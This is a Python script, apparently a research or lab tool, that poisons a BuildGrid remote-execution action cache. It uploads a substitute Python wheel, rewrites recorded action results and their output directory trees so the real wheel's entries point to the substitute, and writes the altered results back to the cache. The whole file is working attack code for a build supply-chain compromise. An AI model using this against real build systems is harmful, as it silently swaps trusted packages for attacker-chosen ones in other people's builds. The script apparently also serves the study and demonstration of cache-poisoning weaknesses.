"""Puts another wheel into an engine, under the key of the real one; runs in BuildGrid's environment.

    poison.py ENGINE RECORD WHEEL

RECORD is what engine_proxy.py recorded of the build of a wheel, and WHEEL, of the same name, what is to come out in its place. Anybody
can do this who may write to the cache. Prints how many results were changed.
"""

import hashlib
import json
import sys
from pathlib import Path
from typing import Any

import grpc
from buildgrid._protos.build.bazel.remote.execution.v2 import remote_execution_pb2 as messages
from buildgrid._protos.build.bazel.remote.execution.v2 import remote_execution_pb2_grpc as services


class Cache:
    """An engine, as somebody sees it who may write to it."""

    def __init__(self, engine: str) -> None:
        channel = grpc.insecure_channel(engine)
        self._blobs = services.ContentAddressableStorageStub(channel)
        self._actions = services.ActionCacheStub(channel)

    def blob(self, digest: Any) -> bytes:
        """Return a blob."""
        (answer,) = self._blobs.BatchReadBlobs(messages.BatchReadBlobsRequest(digests=[digest])).responses
        return bytes(answer.data)

    def store(self, content: bytes) -> Any:
        """Store a blob and return its digest."""
        digest = messages.Digest(hash=hashlib.sha256(content).hexdigest(), size_bytes=len(content))
        request = messages.BatchUpdateBlobsRequest.Request(digest=digest, data=content)
        (answer,) = self._blobs.BatchUpdateBlobs(messages.BatchUpdateBlobsRequest(requests=[request])).responses
        if answer.status.code:
            raise RuntimeError(answer.status.message)
        return digest

    def update(self, action: Any, result: Any) -> None:
        """Give an action a result."""
        self._actions.UpdateActionResult(messages.UpdateActionResultRequest(action_digest=action, action_result=result))


class Poisoner:
    """Replaces the wheel of one name among the outputs of an action."""

    def __init__(self, cache: Cache, wheel: Path) -> None:
        self._cache = cache
        self._name = wheel.name
        self._digest = cache.store(wheel.read_bytes())

    def poison(self, result: Any) -> bool:
        """Change an action's result in place; return whether the wheel was in it."""
        before = result.SerializeToString(deterministic=True)
        for file in result.output_files:
            if file.path.rpartition("/")[2] == self._name:
                file.digest.CopyFrom(self._digest)
        for output in result.output_directories:
            tree = messages.Tree.FromString(self._cache.blob(output.tree_digest))
            children = {_digest_of(child).hash: child for child in tree.children}
            changed: list[Any] = []
            self._replace(tree.root, children, changed)
            del tree.children[:]
            tree.children.extend(changed)
            output.tree_digest.CopyFrom(self._cache.store(tree.SerializeToString(deterministic=True)))
        return result.SerializeToString(deterministic=True) != before

    def _replace(self, directory: Any, children: dict[str, Any], changed: list[Any]) -> None:
        for file in directory.files:
            if file.name == self._name:
                file.digest.CopyFrom(self._digest)
        for node in directory.directories:
            child = children[node.digest.hash]
            self._replace(child, children, changed)
            node.digest.CopyFrom(self._cache.store(child.SerializeToString(deterministic=True)))
            changed.append(child)


def _digest_of(message: Any) -> Any:
    content = message.SerializeToString(deterministic=True)
    return messages.Digest(hash=hashlib.sha256(content).hexdigest(), size_bytes=len(content))


def main(engine: str, record: str, wheel: str) -> int:
    """Poison every recorded action that made the wheel."""
    cache = Cache(engine)
    poisoner = Poisoner(cache, Path(wheel))
    poisoned = 0
    for line in Path(record).read_text(encoding="utf-8").splitlines():
        told = json.loads(line)
        result = messages.ActionResult.FromString(bytes.fromhex(told["result"]))
        if poisoner.poison(result):
            name, _, size = told["action"].partition("/")
            cache.update(messages.Digest(hash=name, size_bytes=int(size)), result)
            poisoned += 1
    print(poisoned)
    return 0


if __name__ == "__main__":
    sys.exit(main(*sys.argv[1:]))
